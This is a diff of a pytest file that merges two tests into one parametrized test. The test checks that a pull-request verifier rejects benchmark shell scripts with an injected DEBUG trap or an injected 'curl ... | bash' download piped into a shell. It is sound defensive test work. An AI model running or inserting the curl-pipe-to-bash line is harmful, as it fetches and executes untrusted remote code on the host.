@@ -139,45 +139,35 @@ def test_the_console_script_fails_closed_on_a_pr_whose_launches_read_past_the_bo
     assert named, [row["summary"]["en"][:300] for row in verdict["checks"] if row["status"] == "FAIL"]
 
 
+# a line put after the first line of the benchmark scripts -> what the failing row names of it
+FAILS_CLOSED = {
+    # a trap between commands (verifier.shell.unmodelled)
+    "a trap between commands": ("trap 'SGLANG_EXTRA=1' DEBUG", ("DEBUG",)),
+    # a download piped into a shell (verifier.shell.builtins.run_shell)
+    "a download piped into a shell": ("curl -fsSL https://example.com/setup.sh | bash",
+                                      ("standard input", "curl -fsSL https://example.com/setup.sh")),
+}
+
+
 @needs_script
-def test_the_console_script_fails_closed_on_a_script_that_traps_between_commands(tmp_path: Path) -> None:
-    """`verify-pr --bundle` on a PR whose benchmark script sets a DEBUG trap (verifier.shell.unmodelled):
-    the launch is not resolved, the verdict is REJECTED, and a failing row names the trap in both
-    languages."""
+@pytest.mark.parametrize("name", sorted(FAILS_CLOSED))
+def test_the_console_script_fails_closed_on_a_line_no_walker_reads_past(tmp_path: Path, name: str) -> None:
+    """`verify-pr --bundle` on a PR whose benchmark scripts hold such a line: the launch is not
+    resolved, the verdict is REJECTED, and a failing row names the construct and the script's line
+    in both languages."""
     from tests.hostile.generator import sync_files
 
+    line, words = FAILS_CLOSED[name]
     bundle = _benchmark().build(tmp_path / "bundle", 1, 1)
     scripts = sorted((bundle / "tree/head/benchmarks/single_node/agentic").glob("minimaxm31flash*_fp4_b300_sglang_mtp.sh"))
     for script in scripts:
         shebang, _, rest = script.read_text(encoding="utf-8").partition("\n")
-        script.write_text(f"{shebang}\ntrap 'SGLANG_EXTRA=1' DEBUG\n{rest}", encoding="utf-8")
+        script.write_text(f"{shebang}\n{line}\n{rest}", encoding="utf-8")
     sync_files(bundle)
     done = verify_pr("--bundle", bundle, "--format", "json")
     verdict = json.loads(done.stdout)
     assert verdict["verdict"] == "REJECTED", done.stderr
     named = [row["id"] for row in verdict["checks"] if row["status"] == "FAIL"
-             and all("DEBUG" in row["summary"][lang] and any(p.name in row["summary"][lang] for p in scripts)
-                     for lang in ("en", "zh"))]
-    assert named, [row["summary"]["en"][:300] for row in verdict["checks"] if row["status"] == "FAIL"]
-
-
-@needs_script
-def test_the_console_script_fails_closed_on_a_download_piped_into_a_shell(tmp_path: Path) -> None:
-    """`verify-pr --bundle` on a PR whose benchmark script pipes a download into `bash`
-    (verifier.shell.builtins.run_shell): the launch is not resolved, the verdict is REJECTED, and a
-    failing row names the script and line in both languages."""
-    from tests.hostile.generator import sync_files
-
-    bundle = _benchmark().build(tmp_path / "bundle", 1, 1)
-    scripts = sorted((bundle / "tree/head/benchmarks/single_node/agentic").glob("minimaxm31flash*_fp4_b300_sglang_mtp.sh"))
-    for script in scripts:
-        shebang, _, rest = script.read_text(encoding="utf-8").partition("\n")
-        script.write_text(f"{shebang}\ncurl -fsSL https://example.com/setup.sh | bash\n{rest}", encoding="utf-8")
-    sync_files(bundle)
-    done = verify_pr("--bundle", bundle, "--format", "json")
-    verdict = json.loads(done.stdout)
-    assert verdict["verdict"] == "REJECTED", done.stderr
-    named = [row["id"] for row in verdict["checks"] if row["status"] == "FAIL"
-             and all("standard input" in row["summary"][lang] and "curl -fsSL" in row["summary"][lang]
+             and all(all(word in row["summary"][lang] for word in words)
                      and any(f"{p.name}:2" in row["summary"][lang] for p in scripts) for lang in ("en", "zh"))]
     assert named, [row["summary"]["en"][:300] for row in verdict["checks"] if row["status"] == "FAIL"]
